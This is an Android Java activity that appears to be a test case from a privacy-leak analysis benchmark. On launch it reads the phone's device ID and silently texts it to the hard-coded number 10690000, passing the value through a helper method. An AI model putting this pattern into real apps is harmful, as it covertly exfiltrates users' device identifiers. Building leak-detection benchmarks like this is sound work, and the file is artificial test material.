package cn.privlens.suite.builder_in_callee;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder with = new StringBuilder("w");
        StringBuilder without = new StringBuilder("o");
        add(with, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        add(without, "x");
        SmsManager.getDefault().sendTextMessage("10690000", null, with.toString(), null, null);
    }
    private static void add(StringBuilder to, String text) { to.append(':').append(text); }
}
